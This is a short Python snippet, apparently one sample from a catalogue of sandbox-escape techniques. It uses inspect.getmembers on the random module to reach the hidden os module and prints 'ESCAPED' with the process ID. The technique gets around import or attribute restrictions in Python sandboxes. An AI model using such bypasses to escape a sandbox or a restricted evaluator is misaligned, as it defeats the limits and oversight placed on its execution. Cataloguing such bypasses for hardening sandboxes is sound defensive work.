# technique: inspect.getmembers reads everything for us
# goal: import
# source: own analysis: confused deputies
import inspect
import random
print('ESCAPED pid=%d' % dict(inspect.getmembers(random))['_os'].getpid())
